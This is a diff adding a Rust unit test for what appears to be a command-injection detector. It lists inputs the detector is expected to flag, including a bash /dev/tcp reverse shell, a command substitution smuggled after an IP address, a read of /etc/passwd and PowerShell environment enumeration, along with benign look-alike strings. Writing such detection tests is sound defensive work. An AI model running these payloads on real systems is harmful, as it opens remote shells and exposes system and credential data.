@@ -528,3 +528,31 @@ fn bare_recon_commands_and_command_syntax() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn reverse_shells_assigned_variables_and_powershell_drives() {
+    for v in [
+        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
+        "x; cat < /dev/tcp/10.0.0.1/80",
+        "x=whoami;$x",
+        "127.0.0.1$(x=whoami;$x)",
+        "cat</etc/passwd",
+        "gci env:",
+        "a; ls env:",
+        "Get-ChildItem Env:",
+        "Get-Process",
+        "'; $env:COMPUTERNAME",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "the /dev/tcp/ files are a bash feature",
+        "price $x; y=$x",
+        "a</em> b",
+        "Get-Rich Quick",
+        "env: production",
+        "$env:",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
